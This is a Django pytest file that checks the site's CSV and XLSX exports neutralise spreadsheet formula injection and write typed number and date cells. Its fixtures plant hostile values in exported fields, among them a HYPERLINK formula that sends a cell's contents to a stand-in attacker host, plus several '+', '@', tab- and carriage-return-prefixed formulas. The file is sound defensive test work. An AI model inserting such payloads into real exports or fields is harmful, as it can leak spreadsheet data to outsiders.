"""Issue 11 item 9: one export writer — hostile cells neutralised in every CSV/XLSX, typed XLSX cells, the period
honoured in every column."""

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.enums import AuditAction
from accounts.models import AuditEvent
from common import exports
from reporting.enums import ExportKind
from reporting.models import Activity
from tests.reporting.factories import ActivityFactory
from tests.workflows.factories import CandidateFactory, StructureApplicationFactory
from workflows.enums import RecruitmentStatus, RuptureMotive
from workflows.models import Recruitment, Rupture

HYPERLINK = '=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?\Z")


def is_safe(value) -> bool:
    """A cell no spreadsheet runs: not text, or text that does not start a formula, or a plain number."""
    return not isinstance(value, str) or not value.startswith(TRIGGERS) or bool(PLAIN_NUMBER.match(value))


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response, delimiter=";") -> list[str]:
    assert response.status_code == 200, response.status_code
    text = body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def xlsx_cells(response) -> list:
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(io.BytesIO(body(response)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells]


def assert_neutralised(cells: list, *, hostile: bool = True) -> None:
    """Every cell is safe and, where hostile text was fed in, it is there with its apostrophe (nothing lost)."""
    unsafe = [cell for cell in cells if not is_safe(cell)]
    assert unsafe == []
    if hostile:
        assert any(isinstance(cell, str) and cell.startswith("'" + HYPERLINK[:10]) for cell in cells) or any(
            isinstance(cell, str) and cell[:1] == "'" and cell[1:2] in TRIGGERS for cell in cells
        )


class TestNeutralise:
    @pytest.mark.parametrize("value", HOSTILE)
    def test_item9_text_starting_a_formula_gets_an_apostrophe(self, value):
        assert exports.neutralise(value) == "'" + value
        assert exports.csv_cell(value) == "'" + value
        assert exports.xlsx_value(value) == "'" + value

    @pytest.mark.parametrize("value", [-2, -2.5, Decimal("-3.10"), "-2", "+33180059880", "-1,5"])
    def test_item9_real_numbers_stay_numbers(self, value):
        assert exports.neutralise(value) == value
        assert exports.csv_cell(value) == value

    def test_item9_plain_text_and_empty_values_are_untouched(self):
        assert exports.csv_cell("Mairie du 11e") == "Mairie du 11e"
        assert exports.csv_cell(None) == "" and exports.xlsx_value(None) is None
        assert exports.csv_cell(True) == "Oui" and exports.xlsx_value(False) == "Non"
        assert exports.csv_cell(date(2026, 3, 4)) == "04/03/2026"

    def test_item9_the_sql_rule_has_the_same_triggers(self):
        sql = exports.sql_neutralise("x")
        assert all(f"'{trigger}'" in sql for trigger in ("=", "+", "-", "@"))
        assert "E'\\t'" in sql and "E'\\r'" in sql and "!~" in sql


class TestXlsxTypedCells:
    def test_item9_numbers_and_dates_are_typed_cells(self):
        handle = io.BytesIO()
        moment = timezone.make_aware(datetime(2026, 3, 4, 10, 30))
        exports.write_xlsx(handle, [("Feuille", [["Titre"], [42, 1.5, Decimal("2.25"), date(2026, 3, 4), moment]], 1)])
        sheet = load_workbook(handle).active
        header, row = list(sheet.iter_rows())
        assert header[0].font.b
        assert [cell.data_type for cell in row] == ["n", "n", "n", "d", "d"]
        assert row[0].value == 42 and row[2].value == 2.25
        assert row[3].value == datetime(2026, 3, 4) and row[3].number_format == exports.DATE_FORMAT
        assert row[4].value == timezone.localtime(moment).replace(tzinfo=None)
        assert row[4].number_format == exports.DATETIME_FORMAT


@pytest.fixture
def hostile_world(paris_structure, paris_advisor, national_admin):
    """Hostile text in every kind of free text an export carries: names, addresses, contacts, titles, labels."""
    paris_structure.name = HYPERLINK
    paris_structure.address = "@SUM(A1:A9)"
    paris_structure.contact_first_name = "+1+1"
    paris_structure.contact_last_name = "\t=1+1"
    paris_structure.contact_phone = "\r=1+1"
    paris_structure.save()
    paris_advisor.first_name = "-2+3"
    paris_advisor.last_name = HYPERLINK
    paris_advisor.save()
    place = paris_advisor.places.first()
    place.name = "@SUM(A1:A9)"
    place.save()
    ActivityFactory(advisor=paris_advisor, notes="\r=1+1")
    ActivityFactory(advisor=paris_advisor, collective=True, title="\t=1+1")
    StructureApplicationFactory(
        name=HYPERLINK,
        contact_first_name="+1+1",
        contact_last_name="-2+3",
        contact_function="@SUM(A1:A9)",
        address="\t=1+1",
        contact_phone="\r=1+1",
    )
    candidate = CandidateFactory(first_name=HYPERLINK, last_name="+1+1", phone="-2+3")
    recruitment = Recruitment.objects.create(
        structure=paris_structure,
        candidate=candidate,
        status=RecruitmentStatus.ACTIVE,
        contract_type="cdd",
        contract_start=timezone.localdate() - timedelta(days=100),
        contract_end=timezone.localdate() + timedelta(days=60),
        salary=2000,
        advisor=paris_advisor,
    )
    Rupture.objects.create(
        advisor=paris_advisor,
        structure=paris_structure,
        recruitment=recruitment,
        end_date=timezone.localdate() + timedelta(days=10),
        motive=RuptureMotive.choices[0][0],
    )
    AuditEvent.objects.create(
        actor=None,
        actor_label=HYPERLINK,
        action=AuditAction.DATA_EXPORTED,
        target_type="@SUM(A1:A9)",
        target_id="-2+3",
        target_label="+1+1",
        user_agent="\t=1+1",
        details={"x": "y"},
    )
    return paris_structure


@pytest.mark.django_db
class TestEveryExportIsNeutralised:
    @pytest.mark.parametrize("what", ["structures", "recrutements", "fins-de-contrat"])
    def test_item9_agents_exports(self, client, national_admin, hostile_world, what):
        client.force_login(national_admin)
        assert_neutralised(csv_cells(client.get(reverse("workflows:export", args=[what, "csv"]))))
        assert_neutralised(xlsx_cells(client.get(reverse("workflows:export", args=[what, "xlsx"]))))

    def test_item9_coop_exports(self, client, advisor_user, hostile_world):
        client.force_login(advisor_user)
        for name in ("coop:activity_export", "coop:statistics_export"):
            assert_neutralised(csv_cells(client.get(reverse(name, kwargs={"fmt": "csv"}))))
            assert_neutralised(xlsx_cells(client.get(reverse(name, kwargs={"fmt": "xlsx"}))))

    def test_item9_team_exports(self, client, coordinator_user, hostile_world):
        client.force_login(coordinator_user)
        for name in ("coop:team_export", "coop:team_statistics_export"):
            assert_neutralised(csv_cells(client.get(reverse(name, kwargs={"fmt": "csv"}))))
            assert_neutralised(xlsx_cells(client.get(reverse(name, kwargs={"fmt": "xlsx"}))))

    @pytest.mark.parametrize("kind", list(ExportKind.values))
    def test_item9_pilotage_list_exports(self, client, national_admin, hostile_world, kind):
        client.force_login(national_admin)
        assert_neutralised(csv_cells(client.get(reverse("pilotage:export_list", kwargs={"kind": kind}))))

    def test_item9_pilotage_dashboard_and_territorial_exports(self, client, national_admin, hostile_world):
        client.force_login(national_admin)
        query = {"structure": hostile_world.pk}
        # The structure's name only appears after « Structure : » here: it reaches the file, and every cell is safe.
        for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            cells = read(client.get(reverse("pilotage:dashboard_export", args=[fmt]), query))
            assert f"Structure : {HYPERLINK}" in cells
            assert_neutralised(cells, hostile=False)
        # Only codes, official names and figures: nothing hostile can reach it, every cell is still checked.
        territorial = csv_cells(client.get(reverse("pilotage:territorial_export")))
        assert "Code" in territorial
        assert_neutralised(territorial, hostile=False)

    def test_item9_audit_export(self, client, national_admin, hostile_world):
        client.force_login(national_admin)
        assert_neutralised(csv_cells(client.get(reverse("accounts:audit_log"), {"format": "csv"})))

    def test_item9_open_data_exports(self, client, hostile_world):
        assert_neutralised(csv_cells(client.get(reverse("open_data_structures"))))
        assert_neutralised(xlsx_cells(client.get(reverse("open_data_structures_xlsx"))))
        places = csv_cells(client.get("/api/lieux-mediation-numerique.csv"), delimiter=",")
        assert "'@SUM(A1:A9)" in places
        assert_neutralised(places)


@pytest.mark.django_db
def test_item9_postgresql_copy_export_is_neutralised_in_sql(paris_advisor, hostile_world):
    from django.db import connection

    from reporting.pilotage_exports import csv_content

    if connection.vendor != "postgresql":
        pytest.skip("COPY is PostgreSQL's")
    text = "".join(chunk.decode() for chunk in csv_content(ExportKind.ACTIVITIES, Activity.objects.current()))
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]
    assert "'\t=1+1" in cells and "'@SUM(A1:A9)" in cells and "'" + HYPERLINK in cells
    assert_neutralised(cells)


@pytest.mark.django_db
class TestPeriodInEveryColumn:
    def test_item9_advisor_report_counts_follow_the_period_and_filters(self, client, prefecture_paris, paris_advisor):
        today = timezone.localdate()
        ActivityFactory(advisor=paris_advisor, date=today - timedelta(days=3))
        ActivityFactory(advisor=paris_advisor, date=today - timedelta(days=200), collective=True)
        client.force_login(prefecture_paris)
        url = reverse("pilotage:export_list", kwargs={"kind": "conseillers"})

        def count(**query):
            text = body(client.get(url, query)).decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text), delimiter=";"))
            assert rows[0][-1] == "CRA saisis sur la période"
            return {row[0]: row[-1] for row in rows[1:]}[str(paris_advisor.pk)]

        year = (today - timedelta(days=365)).isoformat()
        assert count(du=year, au=today.isoformat()) == "2"
        assert count(du=(today - timedelta(days=30)).isoformat(), au=today.isoformat()) == "1"
        assert count(du=year, au=today.isoformat(), type="collectif") == "1"


@pytest.mark.django_db
class TestTypedCellsInEveryXlsx:
    def test_item9_statistics_key_figures_are_numbers_not_formatted_text(self, client, advisor_user, paris_advisor):
        for _ in range(3):
            ActivityFactory(advisor=paris_advisor, collective=True, participants=500, duration=90)
        client.force_login(advisor_user)
        sheet = load_workbook(io.BytesIO(body(client.get(reverse("coop:statistics_export", args=["xlsx"]))))).active
        rows = {row[0].value: row for row in sheet.iter_rows() if row and row[0].value}
        assert rows["Accompagnements"][1].value == 1500 and rows["Accompagnements"][1].data_type == "n"
        assert rows["Temps d'accompagnement (minutes)"][1].value == 270

    def test_item9_agents_xlsx_dates_and_counts_are_typed(self, client, national_admin):
        StructureApplicationFactory(advisors_wanted=4)
        client.force_login(national_admin)
        response = client.get(reverse("workflows:export", args=["structures", "xlsx"]))
        header, row = list(load_workbook(io.BytesIO(body(response))).active.iter_rows())[:2]
        cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
        assert cells["Date de candidature"].is_date and cells["Date de candidature"].number_format == "DD/MM/YYYY"
        assert cells["Date d'accueil souhaitée"].is_date
        assert cells["Nombre de conseillers souhaités"].value == 4
        assert cells["Nombre de conseillers souhaités"].data_type == "n"
